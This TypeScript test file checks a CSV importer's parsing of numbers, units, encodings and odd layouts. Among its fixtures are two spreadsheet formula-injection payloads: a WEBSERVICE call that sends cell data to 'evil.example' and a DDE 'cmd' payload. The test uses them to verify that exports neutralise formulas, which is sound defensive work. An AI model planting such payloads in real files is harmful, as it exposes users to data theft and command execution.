import Papa from 'papaparse'
import { layoutOf } from '@/lib/charts/kinds'
import { WIDTHS } from '@/lib/charts/layout/layout'
import type { Roles } from '@/lib/open/roles'
import { OpenSession } from '@/lib/open/session'
import { DEFAULT_OPEN_VIEW } from '@/lib/open/view'
import { encode } from '@/tests/fixtures/encode'
import { TERMS } from '@/tests/fixtures/units'

/** A small file of a kind that was once read wrong, and what the page makes of it. */
interface Kind {
  readonly kind: string
  readonly file: string | Uint8Array<ArrayBuffer>
  /** The columns with a role, as `name: role`. */
  readonly roles: readonly string[]
  /** The columns as they are read, where another proposal would do as well. */
  readonly readAs?: Roles
  /** The rows that are shown, as `name: number`, the column between them where there are several. */
  readonly rows: readonly string[]
  /** The rows that are set aside, as place and problem. */
  readonly aside?: readonly string[]
  readonly rounded?: number
  readonly titles?: readonly string[]
  readonly notes?: readonly string[]
  readonly form?: string
  readonly encoding?: string
  readonly charts?: readonly string[]
}

const lines = (...of: readonly string[]) => `${of.join('\n')}\n`

const KINDS: readonly Kind[] = [
  {
    kind: 'counts of cases, whose measure word is not a hedge',
    file: lines('类别,数量', '火灾,12起', '交通事故,30起', '电信诈骗,1.2万起'),
    roles: ['类别: label', '数量: value'],
    rows: ['火灾: 12 起', '交通事故: 30 起', '电信诈骗: 12,000 起'],
  },
  {
    kind: 'a scale that is a word of programs',
    file: lines('Country,Value,Scale', 'Aland,12,constructor', 'Borduria,14,toString'),
    roles: ['Country: label', 'Value: value'],
    rows: ['Aland: 12', 'Borduria: 14'],
  },
  {
    kind: 'more than twelve digits are rounded, and said to be',
    file: lines('site,depth', 'Fell,61.20418733650129', 'Ghyll,0.7000000000000001', 'Howe,3.25'),
    roles: ['site: label', 'depth: value'],
    rows: ['Fell: 61.2041873365', 'Ghyll: 0.7', 'Howe: 3.25'],
    rounded: 2,
  },
  {
    kind: 'ends that the hedge itself gives, as the downloads of the site have them',
    file: lines(
      'id,name_en,value,low,high,unit,hedge,low_open,high_open',
      'a,Ferry,0.81,0.81,0.81,share,exact,false,false',
      'b,Harbour,300,300,,items,over,true,true',
      'c,Mill,50,45,55,items,about,false,false',
    ),
    roles: [
      'id: id',
      'name_en: label',
      'value: value',
      'low: low',
      'high: high',
      'unit: unit',
      'hedge: hedge',
    ],
    rows: ['Ferry: 81%', 'Harbour: over 300 items', 'Mill: about 50 items'],
  },
  {
    kind: 'numbers below zero, with their bounds',
    file: lines(
      'Region,Code,Year,Sea level,Upper bound (95% CI),Lower bound (95% CI)',
      'Ocean,,1901,-0.073,0.021,-0.167',
      'Ocean,,1955,0.014,0.09,-0.062',
      'Ocean,,2015,0.208,0.231,0.185',
    ),
    roles: ['Year: label', 'Sea level: value', 'Upper bound (95% CI): high', 'Lower bound (95% CI): low'],
    rows: ['1901: −0.073 (−0.167 to 0.021)', '1955: 0.014 (−0.062 to 0.09)', '2015: 0.208 (0.185 to 0.231)'],
    charts: ['lines'],
  },
  {
    kind: 'a point between thousands, where another column has decimal commas',
    file: lines('Ort;Umsatz;Rest', 'Aa;3.000;2.750,25', 'Bb;4.500;1.125,75', 'Cc;21.000;9.330,50'),
    roles: ['Ort: label', 'Umsatz: value'],
    readAs: ['label', 'value', null],
    rows: ['Aa: 3,000', 'Bb: 4,500', 'Cc: 21,000'],
  },
  {
    kind: 'numbers as they are spoken in English',
    file: lines(
      'thing,number',
      'Trees,half a billion',
      'Boats,half a dozen',
      'Books,three and a half million',
      'Late,one in four',
      'Paid,two point three million',
    ),
    roles: ['thing: label', 'number: value'],
    rows: ['Trees: 500 million', 'Boats: 6', 'Books: 3.5 million', 'Late: 25%', 'Paid: 2.3 million'],
  },
  {
    kind: 'numbers as they are spoken in Chinese',
    file: lines(
      '项目,数值',
      '营收,二点三亿元',
      '升幅,四点五个百分点',
      '份额,六成半',
      '延迟,零点七秒',
      '倍率,三点一倍',
    ),
    roles: ['项目: label', '数值: value'],
    rows: [
      '营收: 230 million yuan',
      '升幅: 4.5 percentage points',
      '份额: 65%',
      '延迟: 0.7 seconds',
      '倍率: 3.1 times',
    ],
  },
  {
    kind: 'central European letters in ISO-8859-2',
    file: encode(
      lines('Město;Lidé;Podíl', 'Plzeň;175219;3,1', 'Žďár;20424;0,4', 'Třinec;34226;0,7'),
      'iso-8859-2',
    ),
    encoding: 'iso-8859-2',
    roles: ['Město: label', 'Lidé: value'],
    rows: ['Plzeň: 175,219', 'Žďár: 20,424', 'Třinec: 34,226'],
  },
  {
    kind: 'Japanese in Shift_JIS',
    file: encode(
      lines(
        '市町村,人口,備考',
        '横浜市,"3,777,491",なし',
        '川崎市,"1,538,262",なし',
        '神戸市,"1,525,152",あり',
      ),
      'shift_jis',
    ),
    encoding: 'shift_jis',
    roles: ['市町村: label', '人口: value', '備考: note'],
    rows: ['横浜市: 3,777,491', '川崎市: 1,538,262', '神戸市: 1,525,152'],
  },
  {
    kind: 'a role that is only part of a word',
    file: lines(
      'Candidate,Region,Ballots,Updated by',
      'Ann Able,Kent,310,desk',
      'Ben Bold,Essex,95,desk',
      'Cy Clear,Devon,41,desk',
    ),
    roles: ['Candidate: label', 'Ballots: value'],
    rows: ['Ann Able: 310', 'Ben Bold: 95', 'Cy Clear: 41'],
  },
  {
    kind: 'names with numbers in them',
    file: lines(
      'TITLE,RATING,VIEWS',
      'Slow Tide (2009),3.9,870',
      'Late Frost (2010),4.1,655',
      'The 12 Gates (2012),2.8,91',
    ),
    roles: ['TITLE: label', 'RATING: value'],
    rows: ['Slow Tide (2009): 3.9', 'Late Frost (2010): 4.1', 'The 12 Gates (2012): 2.8'],
  },
  {
    kind: 'moments, which are dates and no values',
    file: lines(
      'seen_at,link,screen_name,replies',
      '2019-04-02 08:10:11,p1,ann,4',
      '2019-04-02 08:12:00,p2,ben,9',
      '2019-04-02 08:15:42,p3,cy,31',
    ),
    roles: ['seen_at: date', 'link: source', 'screen_name: label', 'replies: value'],
    rows: ['ann: 4', 'ben: 9', 'cy: 31'],
  },
  {
    kind: 'the entity, not its code, for a name',
    file: lines(
      'Entity,Code,Year,Yearly output',
      'Evalia,EVA,2018,0.44121',
      'Evalia,EVA,2019,0.45702',
      'Fenland,FEN,2019,2.1136',
      'World,OWID_WRL,2019,7.2051',
    ),
    roles: ['Entity: label', 'Year: date', 'Yearly output: value'],
    rows: ['Evalia: 0.44121', 'Evalia: 0.45702', 'Fenland: 2.1136', 'World: 7.2051'],
  },
  {
    kind: 'dates for names, drawn over time',
    file: lines('Date,Visits', '2021-06-04,8', '2021-06-05,5', '2021-06-06,13'),
    roles: ['Date: label', 'Visits: value'],
    rows: ['2021-06-04: 8', '2021-06-05: 5', '2021-06-06: 13'],
    charts: ['lines'],
  },
  {
    kind: 'lines above the header that have delimiters',
    file: lines(
      '"Data Source","Some Indicators",',
      '',
      '"Last Updated Date","2023-02-01",',
      '',
      '"Country Name","Country Code","Indicator Name","1970","1971",',
      '"Evalia","EVA","Area, total","3310","3320",',
      '"Fenland","FEN","Area, total","91200","91350",',
      '"Gorland","GOR","Area, total","740","",',
    ),
    roles: ['Country Name: label', '1970: value', '1971: value'],
    rows: [
      'Evalia · 1970: 3,310',
      'Evalia · 1971: 3,320',
      'Fenland · 1970: 91,200',
      'Fenland · 1971: 91,350',
      'Gorland · 1970: 740',
    ],
    titles: ['Data Source,Some Indicators', 'Last Updated Date,2023-02-01'],
  },
  {
    kind: 'a unit in the name of each row, and no axis for two',
    file: lines(
      '指标,2021年,2020年',
      '工业增加值(亿元),455.5,430.1',
      '农业增加值(亿元),61.2,60.8',
      '人均可支配收入(元),41230,39870',
    ),
    roles: ['指标: label', '2021年: value', '2020年: value'],
    rows: [
      '工业增加值(亿元) · 2021年: 45.55 billion yuan',
      '工业增加值(亿元) · 2020年: 43.01 billion yuan',
      '农业增加值(亿元) · 2021年: 6.12 billion yuan',
      '农业增加值(亿元) · 2020年: 6.08 billion yuan',
      '人均可支配收入(元) · 2021年: 41,230 yuan',
      '人均可支配收入(元) · 2020年: 39,870 yuan',
    ],
    charts: ['lines', 'lines'],
  },
  {
    kind: 'a scale in the header',
    file: lines('Town,Workers (000s)', 'Aa,7.25', 'Bb,1300'),
    roles: ['Town: label', 'Workers (000s): value'],
    rows: ['Aa: 7,250', 'Bb: 1.3 million'],
  },
  {
    kind: 'nothing but zeros, which are drawn at the axis',
    file: lines('name,value', 'x,0', 'y,0', 'z,0'),
    roles: ['name: label', 'value: value'],
    rows: ['x: 0', 'y: 0', 'z: 0'],
    charts: ['bars'],
  },
  {
    kind: 'the usual short forms',
    file: lines(
      'what,number',
      'cost,£7.2m',
      'part,"4,1 %"',
      'ratio,1/4',
      'span,3.1 (2.8–3.6)',
      'note,"5,678[2]"',
      'quarter,Q1 2019',
      'lead,.25',
      'way,42km',
      'place,2nd',
      'most,more than half',
      'odds,1 in 4',
      'count,3万6千',
    ),
    roles: ['what: label', 'number: value'],
    rows: [
      'cost: 7.2 million pounds sterling',
      'part: 4.1%',
      'ratio: 25%',
      'span: 3.1 (2.8 to 3.6)',
      'note: 5,678',
      'quarter: 1 January to 31 March 2019',
      'lead: 0.25',
      'way: 42 kilometres',
      'place: 2nd place',
      'most: over 50%',
      'odds: 25%',
      'count: 36,000',
    ],
  },
  {
    kind: 'marks of footnotes behind numbers, in tabs',
    file: lines(
      'Rank\tIsland\tArea[a]\tPart',
      '1\tEvalia\t2,166,086[1]\t41.2%',
      '2\tFenland[b]\t785,753[2]\t15.0%',
      '3\tGorland\t743,330[c]\t14.1%',
    ),
    roles: ['Island: label', 'Area[a]: value'],
    rows: ['Evalia: 2,166,086', 'Fenland[b]: 785,753', 'Gorland: 743,330'],
  },
  {
    kind: 'a header of two rows',
    file: lines(
      'Report,New,Sum,,In wards now,',
      'Date,Cases,Tests,Cured,light,severe',
      '2021-01-07,4,310,0,2,1',
      '2021-01-08,6,522,1,3,1',
      '2021-01-09,5,733,1,3,2',
    ),
    roles: ['Report · Date: label', 'New · Cases: value'],
    rows: ['2021-01-07: 4', '2021-01-08: 6', '2021-01-09: 5'],
  },
  {
    kind: 'JSON in a file that is called .csv',
    file: lines('[', ' {"name": "x", "value": 3},', ' {"name": "y", "value": 4}', ']'),
    form: 'json',
    roles: ['name: label', 'value: value'],
    rows: ['x: 3', 'y: 4'],
  },
  {
    kind: 'notes below the rows',
    file: lines(
      'County,Budget,Part',
      'East,870,31',
      'West,1930,69',
      'Source: the treasury',
      'Note: not final',
    ),
    roles: ['County: label', 'Budget: value'],
    rows: ['East: 870', 'West: 1,930'],
    notes: ['Source: the treasury', 'Note: not final'],
  },
  {
    kind: 'a level that something fell to, and a change with a level',
    file: lines('what,number', 'Vacancies,down to 7%', 'Costs,下降至7%', 'Part,提高2.5个百分点至41.3%'),
    roles: ['what: label', 'number: value'],
    rows: ['Vacancies: 7% (down to)', 'Costs: 7% (下降至)'],
    aside: ['4 There is more than one number: ‘提高2.5个百分点至41.3%’.'],
  },
  {
    kind: 'a comma after a zero, which makes all commas decimal',
    file: lines('name,per_hundred', 'x,"2,105"', 'y,"0,871"', 'z,"33,420"'),
    roles: ['name: label', 'per_hundred: value'],
    rows: ['x: 2.105', 'y: 0.871', 'z: 33.42'],
  },
  {
    kind: 'scales in traditional and full-width characters',
    file: lines('項目,數值', '營收,７．２億', '戶數,二百三十萬', '債務,1.5兆'),
    roles: ['項目: label', '數值: value'],
    rows: ['營收: 720 million', '戶數: 2.3 million', '債務: 1.5 trillion'],
  },
  {
    kind: 'the signs by which Excel keeps a number as text',
    file: lines('name,value', 'x,="31"', 'y,="47"'),
    roles: ['name: label', 'value: value'],
    rows: ['x: 31', 'y: 47'],
  },
  {
    kind: 'a column of scales beside the numbers, in GBK',
    file: encode(
      lines('指标,单位,绝对数', '工业总产值,亿元,45210', '户籍人口,万人,3102', '进口额,亿元,1288'),
      'gb18030',
    ),
    encoding: 'gb18030',
    roles: ['指标: label', '单位: unit', '绝对数: value'],
    rows: ['工业总产值: 4.521 trillion yuan', '户籍人口: 31.02 million people', '进口额: 128.8 billion yuan'],
  },
  {
    kind: 'a header that is a formula',
    file: lines('name,value,"=WEBSERVICE(""http://evil.example/""&A2)"', 'x,3,a', 'y,rubbish,b'),
    roles: ['name: label', 'value: value'],
    rows: ['x: 3'],
    aside: ['3 No number can be read: ‘rubbish’.'],
  },
  {
    kind: 'a number too large to calculate with',
    file: lines('name,产值（亿元）', 'x,8e306', 'y,7', 'z,9'),
    roles: ['name: label', '产值（亿元）: value'],
    rows: ['y: 700 million yuan', 'z: 900 million yuan'],
    aside: ['2 The number is too large or too small to calculate with: ‘8e306’.'],
  },
  {
    kind: 'a formula behind a semicolon',
    file: lines('name,value', `"x;=cmd|'/C notepad'!A0",3`),
    roles: ['name: label', 'value: value'],
    rows: [`x;=cmd|'/C notepad'!A0: 3`],
  },
  ...['7', '十', '万亿'].map((sign) => ({
    kind: `a cell of 30,000 ${sign}`,
    file: lines('name,value', 'x,3', `y,${sign.repeat(30_000 / sign.length)}`, 'z,4'),
    roles: ['name: label', 'value: value'],
    rows: ['x: 3', 'z: 4'],
    aside: [`3 The cell has 30000 characters, too many for one number.`],
  })),
]

test.each(KINDS)(
  '$kind',
  async ({ file, roles, rows, aside = [], rounded = 0, titles = [], notes = [], ...more }) => {
    const session = new OpenSession()
    session.learn(TERMS)
    const result = await session.open(new Blob([file]), { locale: 'en' })
    if (!result.ok) throw new Error(result.failure.reason)
    const { summary } = result
    const proposed = more.readAs ?? summary.roles
    expect(summary.header.flatMap((name, at) => (proposed[at] ? [`${name}: ${proposed[at]}`] : []))).toEqual(
      roles,
    )
    const counts = session.read(proposed)
    session.view(DEFAULT_OPEN_VIEW, 'en')
    expect(
      session
        .rows(0, 99, 'en')
        .map(({ label, series, written }) => `${[label, series].filter(Boolean).join(' · ')}: ${written}`),
    ).toEqual(rows)
    expect(session.rejected(0, 99, 'en').map(({ row, problem }) => `${row} ${problem}`)).toEqual(aside)
    expect([counts.shown, counts.rejected, counts.rounded]).toEqual([rows.length, aside.length, rounded])
    expect([summary.titles, summary.notes]).toEqual([titles, notes])
    if (more.form !== undefined) expect(summary.form).toBe(more.form)
    if (more.encoding !== undefined) expect(summary.encoding).toBe(more.encoding)
    const { charts } = session.charts(6, 'en')
    if (more.charts !== undefined) expect(charts.map(({ series }) => series.kind)).toEqual(more.charts)
    for (const { series, scale } of charts)
      expect(JSON.stringify(layoutOf(series, { width: WIDTHS.wide, scale, locale: 'en' }))).not.toMatch(
        /NaN|∞/,
      )
    for (const form of ['csv', 'excel', 'rejected'] as const) {
      const text = (await (await session.download(form, 'en'))?.text()) ?? ''
      for (const delimiter of [',', ';'])
        for (const cell of Papa.parse<string[]>(text.replace('\uFEFF', ''), { delimiter }).data.flat())
          expect(cell).not.toMatch(/^[=@]/)
    }
  },
)
